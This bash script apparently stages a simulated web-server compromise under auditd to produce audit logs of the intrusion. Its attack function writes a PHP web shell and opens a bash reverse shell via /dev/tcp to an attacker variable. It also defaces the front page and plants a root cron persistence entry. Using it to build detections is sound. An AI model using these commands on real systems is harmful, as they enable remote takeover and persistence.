# A web shell is dropped, gives a reverse shell, and the front page is overwritten:
# seen by the kernel's audit. Only acts of www-data and of the cell's people are recorded.
# shellcheck shell=bash disable=SC2154  # names come from cell.sh

readonly root=/var/www/html

start_auditd() {
  mkdir -p /var/log/audit /tmp/audit && chmod 700 /var/log/audit
  printf '%s\n' 'log_file = /var/log/audit/audit.log' 'log_format = RAW' 'flush = INCREMENTAL' \
    'freq = 20' 'num_logs = 2' 'max_log_file = 8' 'max_log_file_action = IGNORE' \
    'space_left = 75' 'space_left_action = IGNORE' 'admin_space_left = 50' \
    'admin_space_left_action = IGNORE' 'disk_full_action = IGNORE' 'disk_error_action = IGNORE' \
    >/etc/audit/auditd.conf
  rm -f /etc/audit/plugins.d/*
  start auditd -n
  wait_for test -s /var/log/audit/audit.log
  auditctl -a always,exit -F arch=b64 -S execve -F uid=33 -k web_exec
  auditctl -a always,exit -F arch=b64 -S connect -F uid=33 -F exe=/usr/bin/bash -k web_connect
  auditctl -a always,exit -F "dir=$root" -F perm=wa -k web_root
  auditctl -a always,exit -F dir=/etc/cron.d -F perm=wa -k cron
}
stop_audit() {
  auditctl -D || true
  auditctl -e 0 || true
  stop_all
}

as_web() { runuser -u www-data -- "$@" || true; }

attack() {
  as_web /bin/sh -c "echo '<?php system(\$_GET[0]); ?>' >$root/uploads/anh.php"
  as_web /usr/bin/id
  as_web /usr/bin/whoami
  as_web /bin/uname -a
  timeout 3 python3 -c "import socket;s=socket.create_server(('$attacker',4444));s.accept();s.close()" &
  sleep 0.5
  as_web /bin/bash -c "bash -i >& /dev/tcp/$attacker/4444 0>&1" </dev/null
  as_web /bin/sh -c "echo '<h1>hacked</h1>' >$root/index.html"
  echo '* * * * * root /tmp/.x' >/etc/cron.d/cap-nhat
}

publish() {  # what an editor does rightly
  sleep 1
  cp /tmp/new.html "$root/tin-tuc.html"
}

if ! auditctl -l | grep -q '^No rules'; then
  echo 'audit is in use on this machine: its rules would be lost' >&2
  exit 1
fi
mkdir -p "$root/uploads"
chown -R www-data: "$root"
echo '<h1>tin</h1>' >/tmp/new.html
trap stop_audit EXIT
start_auditd
publish
attack
sleep 2
keep audit/audit.log
